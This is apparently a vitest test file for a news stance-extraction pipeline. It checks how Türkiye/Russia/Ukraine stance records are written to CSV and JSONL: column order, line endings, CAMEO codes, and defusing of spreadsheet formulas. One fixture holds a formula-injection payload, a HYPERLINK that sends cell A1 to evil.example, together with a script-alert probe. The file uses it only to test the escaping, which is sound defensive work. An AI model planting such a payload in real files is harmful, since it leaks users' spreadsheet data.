import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { stancesCsv, stancesJsonl, STANCE_CSV_COLUMNS } from '../../stages/report/index.ts';
import { StanceRecordSchema } from '../../stages/schemas.ts';
import { HOSTILE, LAVROV_WELCOMES, RECORDS } from './fixtures.ts';

const BOM = '\uFEFF';

/** Reads the file as a spreadsheet would: BOM checked and stripped, then RFC 4180 parsing. */
function readSpreadsheet(csv: string): string[][] {
  expect(csv.startsWith(BOM)).toBe(true);
  return parse(csv.slice(BOM.length), { relax_column_count: false }) as string[][];
}

describe('stances.csv', () => {
  const csv = stancesCsv(RECORDS);
  const [header, ...rows] = readSpreadsheet(csv);

  it('has the columns in the documented order', () => {
    expect(header).toEqual([
      'doc_id', 'doc_date', 'sentence_index', 'source_id', 'source_name', 'source_country', 'source_role', 'stance',
      'target_id', 'target_name', 'target_country', 'target_role', 'cue', 'negated', 'quoted', 'attribution',
      'confidence', 'cameo', 'sentence',
    ]);
    expect(header).toEqual([...STANCE_CSV_COLUMNS]);
  });

  it('writes every record, negated ones too, sorted by document and sentence, every cell as expected', () => {
    expect(rows).toEqual([
      ['seed-article', '2025-02-24', '0', 'TUR', 'Türkiye', 'TUR', '', 'offer', '', '', '', '', 'offer', 'false', 'false', 'subject', '0.8', '="030"',
        'Türkiye on Monday repeated its offer to host peace talks to end the war between Russia and Ukraine, which entered its fourth year.'],
      ['seed-article', '2025-02-24', '1', 'TUR', 'Türkiye', 'TUR', '', 'support', 'USA', 'United States', 'USA', '', 'backs', 'false', 'false', 'subject', '0.92', '="051"',
        'Ankara backs a United States initiative to end the conflict but negotiations should involve both warring sides, Foreign Minister Hakan Fidan told a joint press with his Russian counterpart Sergei Lavrov after meeting in Ankara.'],
      ['seed-article', '2025-02-24', '3', 'TUR_FIDAN', 'Hakan Fidan', 'TUR', 'Foreign Minister', 'support', 'USA', 'United States', 'USA', '', 'attach great importance', 'false', 'true', 'quote-speaker', '0.85', '',
        '"We attach great importance to the new U.S. initiative as a result-oriented approach. We believe that a solution can be reached through negotiations in which both sides participate," Fidan told reporters.'],
      ['seed-article', '2025-02-24', '8', 'UKR_ZELENSKYY', 'Volodymyr Zelenskyy', 'UKR', 'President', 'condemn', 'RUS', 'Russia', 'RUS', '', 'denounced', 'false', 'false', 'passive', '0.7', '="122"',
        'Russian and U.S officials held talks in Saudi Arabia in a meeting denounced by Zelenskyy, who fears an agreement reached without him.'],
      ['seed-article', '2025-02-24', '35', 'TUR_FIDAN', 'Hakan Fidan', 'TUR', 'Foreign Minister', 'condemn', 'ISR', 'Israel', 'ISR', '', 'condemned', 'false', 'false', 'pronoun', '0.88', '="122"',
        'He condemned Israel’s expansionism toward Jordan, Syria and Lebanon, noting this policy “destabilizes the region, opens it to all sorts of risks, including terrorism.”'],
      ['statement-undated', '', '0', 'UKR', 'Ukraine', 'UKR', '', 'condemn', 'RUS', 'Russia', 'RUS', '', 'condemns', 'false', 'false', 'subject', '0.95', '="122"',
        'Ukraine condemns the strike on Odesa.'],
      ['wire/2025-03-03-ankara', '2025-03-03', '0', 'RUS_LAVROV', 'Sergei Lavrov', 'RUS', 'Foreign Minister', 'support', 'TUR', 'Türkiye', 'TUR', '', "'@welcomed", 'false', 'false', 'subject', '0.8', '',
        '\'- Lavrov welcomed Ankara\'s offer, saying:\n"Our Turkish friends can count on us."'],
      ['wire/2025-03-03-ankara', '2025-03-03', '1', 'TUR', 'Türkiye', 'TUR', '', 'offer', 'UKR', 'Ukraine', 'UKR', '', 'offered', 'false', 'false', 'subject', '0.9', '="030"',
        'Türkiye offered Ukraine and Russia a venue in Istanbul for a new round of talks.'],
      ['wire/2025-03-03-ankara', '2025-03-03', '2', 'TUR', 'Türkiye', 'TUR', '', 'support', 'RUS', 'Russia', 'RUS', '', 'support', 'true', 'false', 'subject', '0.75', '',
        'Türkiye does not support Western-led sanctions on Moscow, the ministry said.'],
      ['wire/2025-03-03-ankara', '2025-03-03', '5', 'RUS', 'Russia', 'RUS', '', 'condemn', 'UKR', 'Ukraine', 'UKR', '', 'condemns', 'false', 'false', 'subject', '0.6', '',
        '\'=HYPERLINK("http://evil.example/?q="&A1,"Russia condemns Ukraine") <script>alert(1)</script>'],
    ]);
  });

  it('defuses cells a spreadsheet would run as formulas (=, +, -, @, tab, CR) and only those', () => {
    const cell = (record: typeof HOSTILE, column: string) => {
      const [, row] = readSpreadsheet(stancesCsv([record]));
      return row![STANCE_CSV_COLUMNS.indexOf(column as never)];
    };
    expect(cell(HOSTILE, 'sentence')!.startsWith("'=HYPERLINK(")).toBe(true);
    expect(cell(LAVROV_WELCOMES, 'cue')).toBe("'@welcomed");
    expect(cell({ ...HOSTILE, cue: '+condemns' }, 'cue')).toBe("'+condemns");
    expect(cell({ ...HOSTILE, cue: '\tcondemns' }, 'cue')).toBe("'\tcondemns");
    expect(cell({ ...HOSTILE, cue: '\rcondemns' }, 'cue')).toBe("'\rcondemns");
    expect(cell({ ...HOSTILE, cue: 'a=b' }, 'cue')).toBe('a=b');
    expect(cell({ ...HOSTILE, confidence: 0 }, 'confidence')).toBe('0');
  });

  it('writes CAMEO codes as ="051", which a spreadsheet keeps as the text 051, not the number 51', () => {
    const row = stancesCsv([RECORDS.find((r) => r.cameo === '051')!]).split('\r\n')[1]!;
    expect(row).toContain(',0.92,"=""051""",');
    expect(stancesCsv([{ ...HOSTILE, cameo: null }]).split('\r\n')[1]).toContain(',0.6,,');
  });

  it('ends records in CRLF and keeps a line break inside a quoted cell', () => {
    const body = stancesCsv([LAVROV_WELCOMES]).slice(1);
    expect(body.split('\r\n')).toHaveLength(3); // header, the record, '' after the last CRLF
    expect(body).toContain('"\'- Lavrov welcomed Ankara\'s offer, saying:\n""Our Turkish friends can count on us."""\r\n');
  });

  it('writes a header only when there are no records', () => {
    expect(stancesCsv([])).toBe(BOM + STANCE_CSV_COLUMNS.join(',') + '\r\n');
  });

  it('is the same bytes whatever order the records come in', () => {
    expect(stancesCsv([...RECORDS].reverse())).toBe(csv);
  });
});

describe('stances.jsonl', () => {
  const lines = stancesJsonl(RECORDS).split('\n');

  it('writes one schema-valid record per line, keys in schema order, sorted, LF after each', () => {
    expect(lines.at(-1)).toBe('');
    const records = lines.slice(0, -1).map((line) => JSON.parse(line));
    expect(records).toHaveLength(RECORDS.length);
    for (const r of records) {
      expect(Object.keys(r)).toEqual(Object.keys(StanceRecordSchema.shape));
      expect(Object.keys(r.source)).toEqual(['id', 'name', 'country', 'role']);
      expect(StanceRecordSchema.parse(r)).toEqual(r);
    }
    expect(records.map((r) => `${r.doc_id}#${r.sentence_index}`)).toEqual([
      'seed-article#0', 'seed-article#1', 'seed-article#3', 'seed-article#8', 'seed-article#35',
      'statement-undated#0', 'wire/2025-03-03-ankara#0', 'wire/2025-03-03-ankara#1', 'wire/2025-03-03-ankara#2', 'wire/2025-03-03-ankara#5',
    ]);
  });

  it('keeps negated records with negated: true', () => {
    expect(lines.filter((l) => l.includes('"negated":true'))).toEqual([expect.stringContaining('does not support Western-led sanctions')]);
  });

  it('puts keys in schema order even when the record came with them shuffled', () => {
    const { sentence, doc_id, ...rest } = HOSTILE;
    const shuffled = { sentence, ...rest, doc_id, source: { role: null, country: 'RUS', name: 'Russia', id: 'RUS' } };
    expect(stancesJsonl([shuffled])).toBe(stancesJsonl([HOSTILE]));
  });
});
